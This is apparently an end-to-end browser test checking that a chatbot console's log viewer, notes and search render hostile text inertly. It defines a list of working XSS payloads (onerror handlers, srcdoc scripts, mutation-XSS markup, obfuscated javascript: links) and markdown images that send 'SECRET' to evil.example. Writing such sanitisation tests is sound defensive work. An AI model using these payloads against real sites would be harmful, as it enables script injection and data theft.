import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launchBrowser, openPage } from '../harness/browser.ts'
import { createOwner } from '../harness/console-owner.ts'
import { type ScriptedUpstream, startScriptedUpstream } from '../harness/scripted-upstream.ts'
import { createPublishedBot, type ServerProcess, startServer } from '../harness/server-process.ts'

const evil = 'https://evil.example'
const hostile = [
  `<img src=x onerror="window.hit=1"><svg onload="window.hit=2"></svg>`,
  `<iframe srcdoc="<script>parent.hit=3</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=4&gt;">`,
  `[x](javascript:window.hit=5) [y](JaVa\tScRiPt:window.hit=6) [z](data:text/html,<script>window.hit=7</script>)`,
  `[a]: javascript:window.hit=8\n[a] [b](vbscript:x) <javascript:window.hit=9>`,
  `![q](${evil}/?q=SECRET) ![r][pic] <img src="${evil}/html">\n\n[pic]: ${evil}/reference`,
  '```html\n<img src=x onerror="window.hit=10">\n```',
  `| <img src=${evil}/table> | ![c](${evil}/cell) |\n|---|---|\n| [d](javascript:1) | \`<script>\` |`,
  '</script><script>window.hit=13</script> click A "javascript:window.hit=14" \\href{javascript:window.hit=15}{x}',
].join('\n\n')

let browser: Browser
let upstream: ScriptedUpstream
let server: ServerProcess
beforeAll(async () => {
  upstream = await startScriptedUpstream()
  ;[browser, server] = await Promise.all([launchBrowser(), startServer(upstream.environment)])
})
afterAll(async () => {
  await browser.close()
  await Promise.all([server.stop(), upstream.stop()])
})

/** A visitor's hostile question and its hostile answer, with hostile feedback. @returns the conversation */
async function talk(botId: string): Promise<{ conversationId: string; chatId: string }> {
  upstream.answerWith([`${hostile}\n\nthe end`])
  const chat = await server.call<{ id: string; conversation_id: string }>('POST', '/v3/chat', {
    bot_id: botId,
    user_id: '<img src=x onerror=window.hit=20>',
    additional_messages: [{ role: 'user', type: 'question', content_type: 'text', content: hostile }],
  })
  const ids = `conversation_id=${chat.conversation_id}&chat_id=${chat.id}`
  await expect
    .poll(async () => (await server.call<{ status: string }>('GET', `/v3/chat/retrieve?${ids}`)).status, {
      timeout: 15_000,
    })
    .toBe('completed')
  const messages = await server.call<{ id: string; type: string }[]>('GET', `/v3/chat/message/list?${ids}`)
  const answer = messages.find(({ type }) => type === 'answer')!
  await server.call('POST', `/v1/conversations/${chat.conversation_id}/messages/${answer.id}/feedback`, {
    feedback_type: 'unlike',
    reason_types: [hostile.slice(0, 30)],
    comment: hostile.slice(0, 250),
  })
  return { conversationId: chat.conversation_id, chatId: chat.id }
}

test('11-15. the log viewer shows hostile words as words: nothing runs, and no request leaves', async () => {
  const watched = await openPage(browser, { viewport: { width: 1400, height: 900 }, locale: 'en-GB' })
  const { page } = watched
  await createOwner(page, server)
  const botId = await createPublishedBot(server, {
    name: '<b>Agent</b>',
    knowledge: { texts: [{ title: '<img src=x onerror=window.hit=21>', text: `Show onerror window hit. ${hostile}` }] },
  })
  const { conversationId, chatId } = await talk(botId)
  const base = page.url().replace(/\/agents.*/, '')

  await page.goto(`${base}/conversations/${conversationId}?answer=${chatId}`)
  await page.getByText('the end').first().waitFor()
  await page.getByText('Exact prompt').first().waitFor()
  await page.getByRole('radio', { name: 'Raw' }).click()
  await page.getByText('"chat_id"').waitFor()
  await page.getByRole('button', { name: 'Add a note' }).first().click()
  await page.getByLabel(/^Note on/).fill(hostile)
  await page.getByRole('button', { name: 'Save the note' }).click()
  await page.getByRole('button', { name: 'Remove the note' }).waitFor()
  await page.goto(`${base}/overview`)
  await page.getByText('Asked most').waitFor()
  await page.keyboard.press('Control+k')
  await page.getByRole('combobox', { name: /^Search/ }).fill('onerror')
  await page.getByRole('option').filter({ hasText: 'onerror' }).first().waitFor()

  expect(await page.evaluate('window.hit')).toBeUndefined()
  expect(await page.locator('main :is(img, iframe, script, object, math, style)').count()).toBe(0)
  const protocols = await page
    .locator('a')
    .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol))
  expect(protocols.every((protocol) => ['http:', 'https:'].includes(protocol))).toBe(true)
  expect(watched.requests.filter((url) => !url.startsWith(server.url))).toEqual([])
  expect(watched.complaints).toEqual([])
  await watched.context.close()
})
